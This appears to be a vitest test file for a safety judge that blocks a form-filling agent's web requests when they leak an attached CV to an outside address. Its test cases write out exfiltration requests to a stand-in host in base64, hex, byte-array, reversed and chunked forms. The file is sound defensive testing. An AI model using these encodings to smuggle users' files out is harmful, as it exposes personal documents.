import { describe, expect, it } from 'vitest';
import { createFillJudge } from '@/safety/requests/judge-fill';
import { testCv } from '../../harness/person';
import { call, site } from './a-request';

/** What a document holds: words, and bytes that are none. */
const words = Array.from({ length: 400 }, (_, at) => `Line ${at * 7919}: baked ${at * 31} loaves near Kraków.`).join(
  '\n',
);
const bytes = new Uint8Array([
  ...new TextEncoder().encode(words),
  ...Array.from({ length: 3_000 }, (_, at) => (at * 97) % 251),
]);
const part = bytes.subarray(5_003, 5_403);
const inBase64 = (of: Uint8Array) => btoa(String.fromCharCode(...of));
const inHex = (of: Uint8Array) => Array.from(of, (byte) => byte.toString(16).padStart(2, '0')).join('');

function aJudge() {
  const judge = createFillJudge();
  judge.addAnswer('Ottilie Quarrelwood', true);
  judge.addFile('cv.pdf', bytes);
  return judge;
}

const elsewhere = 'https://measure.example/collect';
const post = (body: string) => call('POST', elsewhere, body);

describe('a part of a document that was attached', () => {
  it.each([
    ['as it is', post(new TextDecoder().decode(part))],
    ['in base64', post(inBase64(part))],
    ['in base64, from another byte', post(inBase64(part.subarray(1)))],
    ['in base64, within JSON', post(JSON.stringify({ kind: 'metric', d: inBase64(part.subarray(2)) }))],
    ['in hexadecimal', post(inHex(part))],
    ['byte by byte', post(JSON.stringify({ d: Array.from(part) }))],
    ['turned round', post([...new TextDecoder().decode(part)].reverse().join(''))],
    ['in a piece of fifty', post(words.slice(5_003, 5_053))],
    ['in an address', call('GET', `${elsewhere}?d=${encodeURIComponent(inBase64(part.subarray(0, 200)))}`, '')],
  ])('goes to nobody else: %s', (_, request) => {
    expect(aJudge().isHeld(request)).toBe(true);
  });

  it('goes to nobody else from anywhere in a large one', () => {
    let seed = 7;
    const large = Uint8Array.from({ length: 8_000_000 }, () => {
      seed = (Math.imul(seed, 1_103_515_245) + 12_345) >>> 0;
      return 32 + ((seed >>> 16) % 90);
    });
    const judge = createFillJudge();
    judge.addAnswer('Ottilie Quarrelwood', true);
    judge.addFile('scan.pdf', large);
    const began = performance.now();
    for (const at of [900_007, 1_500_001, 7_990_000]) {
      const slice = large.subarray(at, at + 1_200);
      expect(judge.isHeld(call('GET', `${elsewhere}?d=${encodeURIComponent(inBase64(slice))}`, ''))).toBe(true);
      for (const body of [new TextDecoder().decode(slice), inHex(slice), slice.join(',')]) {
        expect(judge.isHeld(post(body))).toBe(true);
      }
    }
    expect(performance.now() - began).toBeLessThan(10_000);
  });

  it('goes in no slices, each too short by itself', () => {
    const judge = aJudge();
    const held = Array.from({ length: 12 }, (_, at) =>
      judge.isHeld(call('GET', `${elsewhere}?n=${at}&d=${encodeURIComponent(words.slice(at * 15, at * 15 + 15))}`, '')),
    );
    expect(held.filter(Boolean).length).toBeGreaterThan(7);
  });

  it('is not named to others, unless its name says nothing', () => {
    const named = (name: string) => {
      const judge = createFillJudge();
      judge.addFile(name, bytes);
      return judge.isHeld(call('GET', `${elsewhere}?f=${encodeURIComponent(name)}`, ''));
    };
    expect(['Ottilie-Quarrelwood.pdf', 'cv.pdf', 'resume.docx'].map(named)).toEqual([true, false, false]);
  });

  it('lets go what holds none of it', () => {
    const judge = aJudge();
    expect(judge.isHeld(call('GET', `${elsewhere}?d=${inBase64(new TextEncoder().encode('a'.repeat(60)))}`, ''))).toBe(
      false,
    );
    expect(judge.isHeld(call('GET', `https://fonts.example/a.woff2?v=${inHex(bytes.subarray(0, 8))}`, ''))).toBe(false);
    expect(judge.isHeld(call('GET', `${site}/places?q=Krak`, ''))).toBe(false);
  });
});

it('a piece of fifty goes to nobody else of a document that says little around it', () => {
  const text = testCv.text;
  const judge = createFillJudge();
  judge.addFile('cv.pdf', new TextEncoder().encode(text));
  expect(judge.isHeld(post(text.slice(160, 210)))).toBe(true);
});
